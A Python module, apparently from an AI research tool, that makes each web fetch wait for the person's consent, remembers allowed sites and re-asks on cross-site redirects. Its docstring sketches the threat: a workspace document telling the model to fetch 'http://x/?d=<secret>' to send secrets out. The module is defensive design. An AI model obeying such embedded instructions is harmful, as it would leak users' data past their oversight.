"""The person's consent to ``fetch_url`` (DESIGN §2): decisions, and the sites allowed for a while.

A web page is the one way research reaches beyond the workspace, and so the one way workspace text
can be sent out (a document saying "fetch http://x/?d=<secret>"). With ``tools.fetch_url_confirm``
on, every fetch waits for a :class:`Decision` from a :data:`Consent`: the window's card, the
terminal's prompt, or a fixed answer (``imprint ask --allow-fetch``, or no one to ask). The engine
pauses research time around it, and traces the decision as ``consent {call_id, url, decision,
seconds}``.

"Allow this site for this conversation" is kept in :class:`AllowedSites` — one per conversation in
the window, one per run of ``imprint ask`` — and :func:`remembering` answers for a site already
allowed without asking again. A site is a scheme, host and port: allowing ``http://wiki:8080``
allows neither ``https://wiki`` nor ``http://wiki:9090``.

A page the person allowed may redirect to another site. Data in the address went to the site they
allowed; the redirect would send it on to one they never saw. So a redirect to another site is
asked about like a new fetch — the same :data:`Consent`, told the address that led there
(``redirected_from``), so the card and the terminal show both — and a site allowed for the
conversation is not asked about again.

Every decision is worded here once (:data:`DECISION_WORDS`); an allowing decision's value starts
with ``allow``, a denial's with ``deny``; ``cancelled`` is neither: the reply was stopped first.
"""

from __future__ import annotations

import enum
from collections.abc import Awaitable, Callable
from typing import Protocol


class Decision(enum.StrEnum):
    """What became of one ``fetch_url``: the person's choice, or why no one was asked."""

    ALLOW_ONCE = "allow_once"  # the person allowed this one fetch
    ALLOW_SITE = "allow_site"  # the person allowed the site for the rest of the conversation
    DENY = "deny"  # the person said no
    ALLOW_REMEMBERED = "allow_remembered"  # the site was allowed earlier in the conversation
    ALLOW_FLAG = "allow_flag"  # ``imprint ask --allow-fetch``: allowed without asking
    DENY_UNATTENDED = "deny_unattended"  # no one could be asked (no terminal, no window)
    CANCELLED = "cancelled"  # Stop was pressed while the person was being asked

    @property
    def allowed(self) -> bool:
        return self.value.startswith("allow")

    @property
    def asked(self) -> bool:
        """Whether a person made this decision just now (rather than a rule or an earlier one)."""
        return self in (Decision.ALLOW_ONCE, Decision.ALLOW_SITE, Decision.DENY)


#: Each decision in words, for the window, the terminal and the research record.
DECISION_WORDS: dict[Decision, str] = {
    Decision.ALLOW_ONCE: "you allowed it once",
    Decision.ALLOW_SITE: "you allowed the site for this conversation",
    Decision.DENY: "you did not allow it",
    Decision.ALLOW_REMEMBERED: "the site was allowed earlier in this conversation",
    Decision.ALLOW_FLAG: "allowed by --allow-fetch",
    Decision.DENY_UNATTENDED: "not allowed: no one could be asked",
    Decision.CANCELLED: "not fetched: the reply was stopped before you decided",
}


class Consent(Protocol):
    """Asks whether tool call ``call_id`` may fetch ``url`` (call id first, then the URL);
    ``redirected_from`` is the allowed address that redirects there, when it is a redirect to
    another site (see the module docstring)."""

    def __call__(
        self, call_id: str, url: str, redirected_from: str = "", /
    ) -> Awaitable[Decision]: ...


def redirect_leaves_site(from_url: str, to_url: str) -> bool:
    """Does a redirect from ``from_url`` to ``to_url`` lead to another site? Moving from http
    to https on the same host and default ports stays on the site."""
    before, after = site_of(from_url), site_of(to_url)
    host = before.removeprefix("http://").removesuffix(":80")
    upgraded = before == f"http://{host}:80" and after == f"https://{host}:443"
    return before != after and not upgraded


#: Asks whether a fetch may follow a redirect from one address to another site (from, to).
RedirectConsent = Callable[[str, str], Awaitable[Decision]]


def site_of(url: str) -> str:
    """The site of ``url``: ``scheme://host:port``, the host in its ASCII (IDNA) form and the
    port always written, so one site has one spelling."""
    import httpx  # noqa: PLC0415 - loaded with the first fetch; this module loads at startup

    parsed = httpx.URL(url)
    host = parsed.raw_host.decode("ascii").lower()
    if ":" in host:
        host = f"[{host}]"
    port = parsed.port or {"http": 80, "https": 443}.get(parsed.scheme, 0)
    return f"{parsed.scheme}://{host}:{port}"


def denied_message(url: str, decision: Decision) -> str:
    """The tool error the model reads when a fetch was not allowed."""
    why = " (fetching needs the person's consent, and no one could be asked)"
    unattended = why if decision is Decision.DENY_UNATTENDED else ""
    return (
        f"the person did not allow fetching {url}{unattended}. Do not try this address again; "
        "answer from the workspace, or ask the person."
    )


class AllowedSites:
    """The sites the person allowed for one conversation (lives on the engine's loop)."""

    def __init__(self) -> None:
        self._sites: set[str] = set()

    def allows(self, url: str) -> bool:
        return site_of(url) in self._sites

    def allow(self, url: str) -> None:
        self._sites.add(site_of(url))

    def __len__(self) -> int:
        return len(self._sites)


def remembering(ask: Consent, sites: AllowedSites) -> Consent:
    """``ask``, except for sites in ``sites``, which are allowed without asking; a site the person
    allows "for this conversation" is added to them."""

    async def consent(call_id: str, url: str, redirected_from: str = "") -> Decision:
        if sites.allows(url):
            return Decision.ALLOW_REMEMBERED
        decision = await (
            ask(call_id, url, redirected_from) if redirected_from else ask(call_id, url)
        )
        if decision is Decision.ALLOW_SITE:
            sites.allow(url)
        return decision

    return consent


def always(decision: Decision) -> Consent:
    """A consent that gives ``decision`` without asking anyone."""

    async def consent(call_id: str, url: str, redirected_from: str = "") -> Decision:
        del call_id, url, redirected_from
        return decision

    return consent
